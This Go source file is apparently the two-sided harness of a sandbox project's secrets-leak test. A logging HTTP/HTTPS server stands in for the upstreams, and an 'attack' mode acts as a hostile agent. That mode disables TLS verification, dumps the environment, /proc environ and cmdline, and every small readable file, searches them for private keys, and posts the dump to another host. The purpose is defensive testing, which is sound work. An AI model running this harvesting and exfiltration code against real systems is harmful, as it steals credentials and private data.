// Command secretpeer is both ends of the hostile test of secrets
// (TestSecretsStayOutside), as a static binary for FROM scratch images.
//
// serve: the upstreams, on a network of the test's own. It serves HTTPS
// on :8443 with the certificate for the name the client asked for (SNI),
// or for the address it connected to when it asked for none (an IP
// address), from -certs (NAME.pem and NAME.key each), and plain HTTP on
// :8080, and prints every request it gets as one JSON line (host,
// headers, body).
//
// attack: the hostile agent, inside the sandbox. It calls the secret's
// host with the placeholder it holds, sends the placeholder in plain HTTP
// to another host, dumps its environment, every process's and every
// small file it can read, and posts the dump to the other host over
// TLS, then writes what it saw to -report.
package main

import (
	"bytes"
	"crypto/tls"
	"encoding/json"
	"flag"
	"fmt"
	"io"
	"io/fs"
	"log"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"time"

	"github.com/sbxhq/sbx/internal/secretpeer"
)

func main() {
	if len(os.Args) < 2 {
		log.Fatal("usage: secretpeer serve|attack [flags]")
	}
	switch os.Args[1] {
	case "serve":
		serve(os.Args[2:])
	case "attack":
		attack(os.Args[2:])
	default:
		log.Fatalf("unknown mode %q", os.Args[1])
	}
}

func serve(args []string) {
	fl := flag.NewFlagSet("serve", flag.ExitOnError)
	certs := fl.String("certs", "/certs", "directory of NAME.pem and NAME.key")
	fl.Parse(args)
	enc := json.NewEncoder(os.Stdout)
	h := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(io.LimitReader(r.Body, 16<<20))
		enc.Encode(secretpeer.Request{Host: r.Host, TLS: r.TLS != nil, Method: r.Method, Path: r.URL.Path, Headers: r.Header, Body: string(body)})
		fmt.Fprintf(w, "ok %s\n", r.Host)
	})
	cfg := &tls.Config{GetCertificate: func(hi *tls.ClientHelloInfo) (*tls.Certificate, error) {
		name := hi.ServerName
		if name == "" {
			// A client sends no name for an IP address (RFC 6066 §3):
			// the certificate is the address's it connected to.
			name, _, _ = net.SplitHostPort(hi.Conn.LocalAddr().String())
		}
		c, err := tls.LoadX509KeyPair(filepath.Join(*certs, name+".pem"), filepath.Join(*certs, name+".key"))
		return &c, err
	}}
	go func() { log.Fatal(http.ListenAndServe(":8080", h)) }()
	srv := &http.Server{Addr: ":8443", Handler: h, TLSConfig: cfg}
	fmt.Println("secretpeer: listening")
	log.Fatal(srv.ListenAndServeTLS("", ""))
}

func attack(args []string) {
	fl := flag.NewFlagSet("attack", flag.ExitOnError)
	api := fl.String("api", "", "the secret's host (https URL)")
	drop := fl.String("drop", "", "another allowed host (https URL)")
	plain := fl.String("plain", "", "another allowed host (http URL)")
	rogue := fl.String("rogue", "", "a secret's host whose certificate the proxy must not trust (https URL)")
	keyEnv := fl.String("key-env", "KEY", "the variable holding the placeholder")
	keyFlag := fl.String("key", "", "send this as the key instead (a placeholder it kept)")
	rogueEnv := fl.String("rogue-env", "ROGUE_KEY", "the variable holding rogue's placeholder")
	trustAll := fl.Bool("trust-all", false, "call the secret's host trusting any certificate")
	out := fl.String("report", "report.json", "where to write what it saw")
	fl.Parse(args)
	key := os.Getenv(*keyEnv)
	if *keyFlag != "" {
		key = *keyFlag
	}
	rep := secretpeer.Report{Placeholder: key}
	// A client as the agents' are: the proxy from the environment, the
	// roots SSL_CERT_FILE names (Go reads it).
	verified := &http.Client{Timeout: time.Minute, Transport: &http.Transport{Proxy: http.ProxyFromEnvironment, DisableKeepAlives: true}}
	// The hostile agent trusts anything, to reach any host it can.
	blind := &http.Client{Timeout: time.Minute, Transport: &http.Transport{Proxy: http.ProxyFromEnvironment, DisableKeepAlives: true,
		TLSClientConfig: &tls.Config{InsecureSkipVerify: true}}}
	if *trustAll {
		rep.API = call(blind, "GET", *api, key, nil)
	} else {
		rep.API = call(verified, "GET", *api, key, nil)
	}
	rep.Rogue = call(verified, "GET", *rogue, os.Getenv(*rogueEnv), nil)
	rep.Plain = call(blind, "GET", *plain, key, nil)

	var dump bytes.Buffer
	for _, kv := range os.Environ() {
		fmt.Fprintln(&dump, kv)
		if strings.Contains(kv, "PRIVATE KEY") {
			rep.KeyInEnv = true
		}
	}
	filepath.WalkDir("/", func(p string, d fs.DirEntry, err error) error {
		if err != nil {
			return nil
		}
		if d.IsDir() && (p == "/sys" || p == "/dev") {
			return fs.SkipDir
		}
		if strings.HasPrefix(p, "/proc/") && !strings.HasSuffix(p, "/environ") && !strings.HasSuffix(p, "/cmdline") {
			if d.IsDir() && strings.Count(p, "/") > 2 {
				return fs.SkipDir
			}
			return nil
		}
		if !d.Type().IsRegular() {
			return nil
		}
		if fi, err := d.Info(); err != nil || fi.Size() > 1<<20 {
			return nil
		}
		data, err := os.ReadFile(p)
		if err != nil {
			return nil
		}
		if bytes.Contains(data, []byte("PRIVATE KEY-----")) {
			rep.KeyFiles = append(rep.KeyFiles, p)
		}
		fmt.Fprintf(&dump, "== %s\n%s\n", p, data)
		return nil
	})
	rep.DumpBytes = dump.Len()
	rep.Drop = call(blind, "POST", *drop, key, dump.Bytes())
	data, _ := json.MarshalIndent(rep, "", "  ")
	if err := os.WriteFile(*out, data, 0o644); err != nil {
		log.Fatal(err)
	}
}

func call(c *http.Client, method, url, key string, body []byte) secretpeer.Result {
	req, err := http.NewRequest(method, url, bytes.NewReader(body))
	if err != nil {
		return secretpeer.Result{Error: err.Error()}
	}
	req.Header.Set("Authorization", "Bearer "+key)
	req.Header.Set("X-Api-Key", key)
	resp, err := c.Do(req)
	if err != nil {
		return secretpeer.Result{Error: err.Error()}
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(io.LimitReader(resp.Body, 64<<10))
	r := secretpeer.Result{Status: resp.StatusCode, Body: string(b)}
	if resp.TLS != nil && len(resp.TLS.PeerCertificates) > 0 {
		r.Issuer = resp.TLS.PeerCertificates[0].Issuer.CommonName
	}
	return r
}
